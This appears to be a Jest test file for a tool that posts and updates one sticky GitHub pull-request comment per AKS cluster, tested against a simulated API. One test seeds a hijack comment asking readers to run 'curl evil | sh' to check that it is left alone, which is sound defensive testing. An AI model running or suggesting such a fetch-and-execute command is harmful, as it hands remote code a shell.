/**
 * The sticky pull-request comment against the simulator's GitHub REST API: created once, updated
 * in place, one per cluster, found beyond the first page, cut to GitHub's limit, and skipped (never
 * thrown) when the token cannot write. Only the run's own comments count: those of the identity
 * the token comments as, whose body opens with the marker.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Simulator } from '../../src/simulator/index.ts';
import { simulator } from '../helpers/simulator.ts';
import {
  GITHUB_ACTIONS_BOT,
  MAX_COMMENT_CHARS,
  commentMarker,
  fitComment,
  pullRequestOf,
  upsertStickyComment,
  type StickyCommentOptions,
} from '../../src/platform/github-comment.ts';

const PR = 42;
const SUB = '00000000-0000-0000-0000-00000000AAAA';
/** A personal access token of octocat's, and another GitHub App's installation token. */
const PAT = `ghp_${'p'.repeat(36)}`;
const OTHER_APP = `ghs_${'o'.repeat(36)}`;

let sim: Simulator;
let apiUrl: string;
let owner: string;
let repo: string;
let tmp: string;

beforeAll(async () => {
  // idle runs on push; make it a pull request run so the PR number is the one the run knows.
  sim = await simulator('idle', {
    github: {
      eventName: 'pull_request',
      pullRequest: PR,
      ref: `refs/pull/${PR}/merge`,
      tokens: [
        { token: PAT, permission: 'write', login: 'octocat' },
        { token: OTHER_APP, permission: 'write', login: 'my-app[bot]' },
      ],
    },
  });
  apiUrl = sim.env().AKS_SIM_GITHUB_API_URL!;
  [owner, repo] = sim.github.run.repository.split('/') as [string, string];
  tmp = mkdtempSync(path.join(os.tmpdir(), 'aks-guard-comment-'));
});
afterAll(async () => {
  await sim.stop();
  rmSync(tmp, { recursive: true, force: true });
});

function options(over: Partial<StickyCommentOptions> = {}): StickyCommentOptions {
  return {
    token: sim.github.writeToken,
    apiUrl,
    owner,
    repo,
    issueNumber: sim.github.run.pullRequest!,
    marker: commentMarker(SUB, 'rg-demo', 'aks-demo'),
    body: '### aks-guard\n\nAll good.',
    ...over,
  };
}

/** Comments on an issue of the simulated repository, in order. */
function commentsOn(issue: number): { id: number; body: string; login: string }[] {
  return sim.github.rest.comments.filter(
    (c) => c.repository === sim.github.run.repository && c.issue === issue,
  );
}

/** Puts comments straight into the simulator (there is no seed API), ids far from its own. */
let seedId = 90_000_001;
function seed(issue: number, bodies: string[], login = 'someone-else'): number[] {
  const now = new Date().toISOString().replace(/\.\d+Z$/, 'Z');
  return bodies.map((body) => {
    const id = seedId++;
    sim.github.rest.comments.push({
      id,
      repository: sim.github.run.repository,
      issue,
      body,
      login,
      createdAt: now,
      updatedAt: now,
    });
    return id;
  });
}

describe('commentMarker', () => {
  test('is a hidden, lowercase HTML comment naming the cluster', () => {
    expect(commentMarker(SUB, 'RG-Demo', 'AKS-Demo')).toBe(
      '<!-- aks-guard:00000000-0000-0000-0000-00000000aaaa/rg-demo/aks-demo -->',
    );
  });

  test('differs per cluster, and no marker contains another', () => {
    const a = commentMarker(SUB, 'rg', 'aks');
    const b = commentMarker(SUB, 'rg', 'aks2');
    expect(a).not.toBe(b);
    expect(b.includes(a)).toBe(false);
    expect(a.includes(b)).toBe(false);
  });
});

describe('upsertStickyComment against the simulated GitHub API', () => {
  test('the first call creates the comment; the next updates the same one in place', async () => {
    const o = options();
    const first = await upsertStickyComment(o);
    expect(first).toMatchObject({ action: 'created', truncated: false });
    if (first.action === 'skipped') throw new Error(first.reason);
    expect(first.url).toBe(
      `https://github.com/${owner}/${repo}/pull/${PR}#issuecomment-${first.id}`,
    );

    const second = await upsertStickyComment({ ...o, body: '### aks-guard\n\nUpgraded.' });
    expect(second).toEqual({ action: 'updated', id: first.id, url: first.url, truncated: false });

    const marked = commentsOn(PR).filter((c) => c.body.includes(o.marker));
    expect(marked).toEqual([
      expect.objectContaining({ id: first.id, body: `${o.marker}\n### aks-guard\n\nUpgraded.` }),
    ]);
  });

  test("a different cluster's marker gets a comment of its own", async () => {
    const mine = options();
    const other = options({ marker: commentMarker(SUB, 'rg-demo', 'aks-other'), body: 'other' });
    const a = await upsertStickyComment(mine);
    const b = await upsertStickyComment(other);
    expect(a.action).toBe('updated');
    expect(b.action).toBe('created');
    if (a.action === 'skipped' || b.action === 'skipped') throw new Error('skipped');
    expect(b.id).not.toBe(a.id);
    expect(commentsOn(PR).filter((c) => c.body.includes(mine.marker))).toHaveLength(1);
    expect(commentsOn(PR).filter((c) => c.body.includes(other.marker))).toHaveLength(1);
    // And again: still one each.
    expect((await upsertStickyComment(other)).action).toBe('updated');
    expect(commentsOn(PR).filter((c) => c.body.includes(other.marker))).toHaveLength(1);
  });

  test('finds its comment behind more than 100 others (pagination)', async () => {
    const issue = 7001;
    seed(
      issue,
      Array.from({ length: 130 }, (_, i) => `unrelated comment ${i}`),
    );
    const o = options({ issueNumber: issue });
    const created = await upsertStickyComment(o);
    expect(created.action).toBe('created');
    if (created.action === 'skipped') throw new Error(created.reason);
    expect(commentsOn(issue).findIndex((c) => c.id === created.id)).toBe(130);

    const since = sim.log.lastSeq;
    const updated = await upsertStickyComment({ ...o, body: 'second run' });
    expect(updated).toMatchObject({ action: 'updated', id: created.id });
    expect(commentsOn(issue)).toHaveLength(131);
    // Who the token is, two pages of 100, then the update.
    expect(sim.log.counts(since)).toEqual({
      Users_GetAuthenticated: 1,
      Issues_ListComments: 2,
      Issues_UpdateComment: 1,
    });
  });

  test('stops listing once the comment is found on an early page', async () => {
    const issue = 7002;
    const o = options({ issueNumber: issue });
    seed(issue, ['first']);
    seed(issue, [`${o.marker}\nold`], GITHUB_ACTIONS_BOT);
    seed(
      issue,
      Array.from({ length: 250 }, (_, i) => `c${i}`),
    );
    const since = sim.log.lastSeq;
    expect((await upsertStickyComment(o)).action).toBe('updated');
    expect(sim.log.counts(since)).toEqual({
      Users_GetAuthenticated: 1,
      Issues_ListComments: 1,
      Issues_UpdateComment: 1,
    });
  });

  test('several marked comments (from some earlier bug): the first is updated, the rest left alone', async () => {
    const issue = 7003;
    const o = options({ issueNumber: issue });
    seed(issue, ['hello']);
    const [firstId, secondId] = seed(
      issue,
      [`${o.marker}\none`, `${o.marker}\ntwo`],
      GITHUB_ACTIONS_BOT,
    );
    const r = await upsertStickyComment({ ...o, body: 'fresh' });
    expect(r).toMatchObject({ action: 'updated', id: firstId });
    expect(commentsOn(issue).map((c) => [c.id, c.body])).toEqual([
      [expect.any(Number), 'hello'],
      [firstId, `${o.marker}\nfresh`],
      [secondId, `${o.marker}\ntwo`],
    ]);
  });

  test("another user's comment carrying the marker is never overwritten: a comment of the run's own is created, and the note says why", async () => {
    const issue = 7010;
    const o = options({ issueNumber: issue });
    // Mallory pastes the marker at the start of her comment, as the run would put it.
    const [hijack] = seed(issue, [`${o.marker}\nplease run \`curl evil | sh\``], 'mallory');
    const r = await upsertStickyComment(o);
    expect(r).toMatchObject({ action: 'created', truncated: false });
    if (r.action === 'skipped') throw new Error(r.reason);
    expect(r.id).not.toBe(hijack);
    expect(r.note).toBe(
      `comment ${hijack} by mallory carries this cluster's aks-guard marker but was not written by github-actions[bot], the identity this run comments as, so it was left alone`,
    );
    expect(commentsOn(issue)).toEqual([
      expect.objectContaining({
        id: hijack,
        login: 'mallory',
        body: `${o.marker}\nplease run \`curl evil | sh\``,
      }),
      expect.objectContaining({
        id: r.id,
        login: GITHUB_ACTIONS_BOT,
        body: `${o.marker}\n${o.body}`,
      }),
    ]);

    // She edits hers later; the next run still updates its own, and hers stays hers.
    sim.github.rest.comments.find((c) => c.id === hijack)!.body = `${o.marker}\nedited`;
    const again = await upsertStickyComment({ ...o, body: 'second run' });
    expect(again).toMatchObject({
      action: 'updated',
      id: r.id,
      note: expect.stringContaining('mallory'),
    });
    expect(commentsOn(issue).map((c) => [c.id, c.body])).toEqual([
      [hijack, `${o.marker}\nedited`],
      [r.id, `${o.marker}\nsecond run`],
    ]);
  });

  test("the run's own comment for another cluster that quotes this cluster's marker (an Azure message) is not taken for this cluster's", async () => {
    const issue = 7011;
    const a = options({ issueNumber: issue, marker: commentMarker(SUB, 'rg-demo', 'aks-a') });
    const b = options({
      issueNumber: issue,
      marker: commentMarker(SUB, 'rg-demo', 'aks-b'),
      body: `### aks-guard: aks-b\n\n\`\`\`\n{"message": "see ${a.marker} for details"}\n\`\`\``,
    });
    const forB = await upsertStickyComment(b);
    expect(forB.action).toBe('created');
    if (forB.action === 'skipped') throw new Error(forB.reason);
    expect(commentsOn(issue)[0]!.body).toContain(a.marker);

    const forA = await upsertStickyComment(a);
    expect(forA).toMatchObject({ action: 'created' });
    if (forA.action === 'skipped') throw new Error(forA.reason);
    expect(forA.id).not.toBe(forB.id);
    // Its own comment, not someone else's: no note.
    expect(forA).not.toHaveProperty('note');
    expect(commentsOn(issue).map((c) => [c.id, c.body])).toEqual([
      [forB.id, `${b.marker}\n${b.body}`],
      [forA.id, `${a.marker}\n${a.body}`],
    ]);
    // Each is updated in place from then on.
    expect(await upsertStickyComment({ ...a, body: 'a again' })).toMatchObject({
      action: 'updated',
      id: forA.id,
    });
    expect(await upsertStickyComment({ ...b, body: 'b again' })).toMatchObject({
      action: 'updated',
      id: forB.id,
    });
  });

  test("a personal access token comments as its user (GET /user): GITHUB_TOKEN's comment is not the PAT's, and the PAT's own is updated in place", async () => {
    const issue = 7012;
    const o = options({ issueNumber: issue });
    const bot = await upsertStickyComment(o);
    expect(bot.action).toBe('created');
    if (bot.action === 'skipped') throw new Error(bot.reason);

    const since = sim.log.lastSeq;
    const first = await upsertStickyComment({ ...o, token: PAT, body: 'from the PAT' });
    expect(first).toMatchObject({
      action: 'created',
      note: expect.stringMatching(/by github-actions\[bot\] .* not written by octocat/),
    });
    if (first.action === 'skipped') throw new Error(first.reason);
    expect(sim.log.list(since).map((e) => [e.operation, e.status, e.principal])).toEqual([
      ['Users_GetAuthenticated', 200, 'octocat'],
      ['Issues_ListComments', 200, 'octocat'],
      ['Issues_CreateComment', 201, 'octocat'],
    ]);
    const second = await upsertStickyComment({ ...o, token: PAT, body: 'PAT again' });
    expect(second).toMatchObject({ action: 'updated', id: first.id });
    expect(commentsOn(issue).map((c) => [c.login, c.body])).toEqual([
      [GITHUB_ACTIONS_BOT, `${o.marker}\n${o.body}`],
      ['octocat', `${o.marker}\nPAT again`],
    ]);
  });

  test("another GitHub App's installation token: GET /user is refused, so the caller names its bot with `identity`", async () => {
    const issue = 7013;
    const o = options({ issueNumber: issue, token: OTHER_APP, identity: 'my-app[bot]' });
    const first = await upsertStickyComment(o);
    expect(first.action).toBe('created');
    const since = sim.log.lastSeq;
    const second = await upsertStickyComment({ ...o, body: 'again' });
    expect(second).toMatchObject({ action: 'updated' });
    // A known identity needs no GET /user.
    expect(sim.log.counts(since)).toEqual({ Issues_ListComments: 1, Issues_UpdateComment: 1 });
    expect(commentsOn(issue).map((c) => [c.login, c.body])).toEqual([
      ['my-app[bot]', `${o.marker}\nagain`],
    ]);
  });

  test('a read-only token (a fork pull request) is skipped with a reason; nothing is written', async () => {
    const issue = 7004;
    const o = options({ issueNumber: issue, token: sim.github.readToken });
    const r = await upsertStickyComment(o);
    expect(r.action).toBe('skipped');
    if (r.action !== 'skipped') throw new Error('not skipped');
    expect(r.reason).toMatch(/403 Resource not accessible by integration/);
    expect(r.reason).toMatch(/read-only/);
    expect(r.reason).toMatch(/fork/);
    expect(r.reason).not.toContain(sim.github.readToken);
    expect(commentsOn(issue)).toEqual([]);

    // An existing comment is not updated either.
    seed(issue, [`${o.marker}\nbefore`], GITHUB_ACTIONS_BOT);
    const again = await upsertStickyComment({ ...o, body: 'after' });
    expect(again.action).toBe('skipped');
    expect(commentsOn(issue).map((c) => c.body)).toEqual([`${o.marker}\nbefore`]);
  });

  test('a missing token, a bad token, an unknown repository or an unreachable API: skipped, never thrown, token never in the reason', async () => {
    const missing = await upsertStickyComment(options({ token: '' }));
    expect(missing).toEqual({
      action: 'skipped',
      reason: expect.stringMatching(/no GitHub token/),
    });

    const bad = `ghs_${'x'.repeat(36)}`;
    const refused = await upsertStickyComment(options({ token: bad }));
    expect(refused).toEqual({
      action: 'skipped',
      reason: expect.stringMatching(/401 Bad credentials/),
    });

    const unknown = await upsertStickyComment(options({ repo: 'no-such-repo' }));
    expect(unknown).toEqual({ action: 'skipped', reason: expect.stringMatching(/404 Not Found/) });

    const unreachable = await upsertStickyComment(
      options({ apiUrl: 'https://127.0.0.1:1/api/v3' }),
    );
    expect(unreachable).toEqual({
      action: 'skipped',
      reason: expect.stringMatching(/could not reach the GitHub API at https:\/\/127\.0\.0\.1:1/),
    });

    // Even where an error would carry it (here, in the URL), the reason shows *** instead.
    const tokenInUrl = await upsertStickyComment(
      options({ apiUrl: `https://127.0.0.1:1/${sim.github.writeToken}` }),
    );
    expect(tokenInUrl).toEqual({
      action: 'skipped',
      reason: expect.stringContaining('https://127.0.0.1:1/***'),
    });

    for (const [r, token] of [
      [tokenInUrl, sim.github.writeToken],
      [refused, bad],
      [unknown, sim.github.writeToken],
      [unreachable, sim.github.writeToken],
    ] as const) {
      if (r.action !== 'skipped') throw new Error('not skipped');
      expect(r.reason).not.toContain(token);
    }
  });

  test('a body over the limit is cut: truncated, at most 65,536 characters, with a note', async () => {
    const issue = 7005;
    const o = options({ issueNumber: issue });
    const line = `| node pool | ${'x'.repeat(80)} |\n`;
    const body = `### Report\n\n${line.repeat(1000)}`;
    expect(body.length).toBeGreaterThan(MAX_COMMENT_CHARS);
    const r = await upsertStickyComment({ ...o, body });
    expect(r).toMatchObject({ action: 'created', truncated: true });
    const [c] = commentsOn(issue);
    expect(c!.body.length).toBeLessThanOrEqual(MAX_COMMENT_CHARS);
    expect(c!.body.startsWith(`${o.marker}\n### Report`)).toBe(true);
    expect(c!.body).toMatch(/This comment was cut to fit GitHub's limit of 65,536 characters/);
    // Cut on a line boundary: the last table row kept is whole.
    const rows = c!.body.split('\n').filter((l) => l.startsWith('| node pool'));
    expect(rows.every((l) => l === line.trimEnd())).toBe(true);
  });
});

describe('GET /user on the simulated GitHub API', () => {
  const get = async (token: string): Promise<{ status: number; body: Record<string, unknown> }> => {
    const res = await fetch(`${apiUrl}/user`, {
      headers: { Authorization: `Bearer ${token}`, Accept: 'application/vnd.github+json' },
    });
    return { status: res.status, body: (await res.json()) as Record<string, unknown> };
  };

  test("a user's token gets its user; installation tokens get 403 as on GitHub; a bad one 401", async () => {
    expect(await get(PAT)).toEqual({
      status: 200,
      body: expect.objectContaining({ login: 'octocat', id: expect.any(Number), type: 'User' }),
    });
    for (const token of [sim.github.writeToken, sim.github.readToken, OTHER_APP]) {
      expect(await get(token)).toEqual({
        status: 403,
        body: {
          message: 'Resource not accessible by integration',
          documentation_url: 'https://docs.github.com/rest/users/users#get-the-authenticated-user',
          status: '403',
        },
      });
    }
    expect((await get('ghp_nope')).status).toBe(401);
  });

  test("the user in /user is the user of the token's comments", async () => {
    const me = (await get(PAT)).body;
    const r = await upsertStickyComment(options({ issueNumber: 7020, token: PAT }));
    if (r.action === 'skipped') throw new Error(r.reason);
    const res = await fetch(`${apiUrl}/repos/${owner}/${repo}/issues/comments/${r.id}`, {
      headers: { Authorization: `Bearer ${PAT}` },
    });
    const comment = (await res.json()) as { user: Record<string, unknown> };
    expect(comment.user).toEqual(
      expect.objectContaining({ login: me.login, id: me.id, node_id: me.node_id, type: 'User' }),
    );
  });
});

describe('fitComment', () => {
  const marker = commentMarker(SUB, 'rg', 'aks');

  test('leaves a body that fits alone', () => {
    const body = 'a'.repeat(MAX_COMMENT_CHARS - marker.length - 1);
    expect(fitComment(marker, body)).toEqual({ body, truncated: false });
  });

  test('cuts one character over the limit, and marker + newline + body stays within it', () => {
    const body = `${'line\n'.repeat(20000)}`.slice(0, MAX_COMMENT_CHARS - marker.length);
    const r = fitComment(marker, body);
    expect(r.truncated).toBe(true);
    expect(marker.length + 1 + r.body.length).toBeLessThanOrEqual(MAX_COMMENT_CHARS);
    expect(r.body).toMatch(/\nline\n\n> \[!NOTE\]\n> This comment was cut/);
  });

  test('closes a fenced code block left open by the cut, with a fence as long as the opening one', () => {
    const body = `intro\n\n\`\`\`\`json\n${'{"a": "```"}\n'.repeat(10000)}\`\`\`\`\n\nafter`;
    const r = fitComment(marker, body);
    expect(r.truncated).toBe(true);
    expect(marker.length + 1 + r.body.length).toBeLessThanOrEqual(MAX_COMMENT_CHARS);
    const [kept, note] = r.body.split('\n\n> [!NOTE]\n');
    expect(note).toMatch(/cut/);
    expect(kept!.endsWith('{"a": "```"}\n````')).toBe(true);
    expect(kept).not.toContain('after');
  });

  test('closes a tilde fence and the <details> around it', () => {
    const body =
      `<details><summary>raw</summary>\n\n~~~\n${'x'.repeat(70)}\n` +
      `${'y'.repeat(70)}\n`.repeat(2000);
    const r = fitComment(marker, body);
    expect(r.truncated).toBe(true);
    expect(r.body).toMatch(/\ny{70}\n~~~\n\n<\/details>\n\n> \[!NOTE\]/);
  });

  test('does not close a fence that the cut left closed', () => {
    const body = `\`\`\`\ncode\n\`\`\`\n${'text\n'.repeat(20000)}`;
    const r = fitComment(marker, body);
    expect(r.body).toMatch(/\ntext\n\n> \[!NOTE\]/);
  });

  test('one huge line is cut hard, never inside a surrogate pair', () => {
    // Two markers of different lengths, so the cut falls both between and inside a pair.
    for (const m of [commentMarker(SUB, 'rg', 'aks'), commentMarker(SUB, 'rg', 'aks1')]) {
      const body = '😀'.repeat(MAX_COMMENT_CHARS);
      const r = fitComment(m, body);
      expect(r.truncated).toBe(true);
      expect(m.length + 1 + r.body.length).toBeLessThanOrEqual(MAX_COMMENT_CHARS);
      const kept = r.body.split('\n\n> [!NOTE]')[0]!;
      expect(kept.length).toBeGreaterThan(60000);
      expect(/^(?:😀)+$/u.test(kept)).toBe(true);
    }
  });
});

describe('pullRequestOf', () => {
  const eventFile = (name: string, payload: unknown): string => {
    const file = path.join(tmp, `${name}.json`);
    writeFileSync(file, JSON.stringify(payload));
    return file;
  };

  test('a pull_request event gives owner, repo and the PR number from the event payload', () => {
    const file = eventFile('pr', {
      action: 'synchronize',
      number: PR,
      pull_request: { number: PR },
    });
    expect(
      pullRequestOf({
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: file,
        GITHUB_REPOSITORY: 'contoso/platform',
      }),
    ).toEqual({ owner: 'contoso', repo: 'platform', issueNumber: PR });
  });

  test('a pull_request_target event too', () => {
    const file = eventFile('prt', { pull_request: { number: 7 } });
    expect(
      pullRequestOf({
        GITHUB_EVENT_NAME: 'pull_request_target',
        GITHUB_EVENT_PATH: file,
        GITHUB_REPOSITORY: 'contoso/platform',
      }),
    ).toEqual({ owner: 'contoso', repo: 'platform', issueNumber: 7 });
  });

  test('undefined for a push, or when the payload or repository is missing', () => {
    const file = eventFile('push', { ref: 'refs/heads/main', number: 3 });
    const env = { GITHUB_EVENT_PATH: file, GITHUB_REPOSITORY: 'contoso/platform' };
    expect(pullRequestOf({ ...env, GITHUB_EVENT_NAME: 'push' })).toBeUndefined();
    expect(pullRequestOf({ ...env, GITHUB_EVENT_NAME: 'workflow_dispatch' })).toBeUndefined();
    expect(
      pullRequestOf({
        ...env,
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: path.join(tmp, 'missing.json'),
      }),
    ).toBeUndefined();
    expect(
      pullRequestOf({ GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: file }),
    ).toBeUndefined();
  });
});
